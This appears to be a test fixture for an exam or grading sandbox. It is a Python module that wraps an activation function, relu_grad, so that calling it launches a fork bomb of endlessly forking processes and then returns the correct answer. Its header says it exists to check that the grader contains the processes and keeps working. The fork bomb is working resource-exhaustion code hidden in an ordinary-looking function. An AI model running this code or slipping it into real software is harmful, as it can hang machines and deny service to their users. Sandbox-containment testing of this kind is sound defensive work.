# module: activations
# attack: relu_grad starts processes that fork without end, then returns the right answer
# expect: score 50 of 50; failed: none
# fallback: yes
# Containment only: the maths is honest, so the verdict must not change; the test checks that no
# process survives grading and that the machine keeps working.

import os
import time

_stormed = []


def _storm():
    if _stormed:
        return
    _stormed.append(True)
    for _ in range(64):
        try:
            pid = os.fork()
        except OSError:
            return
        if pid == 0:
            try:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        time.sleep(0.05)
            finally:
                os._exit(0)


def _with_storm(function):
    def relu_grad(z):
        _storm()
        return function(z)

    return relu_grad


relu_grad = _with_storm(relu_grad)
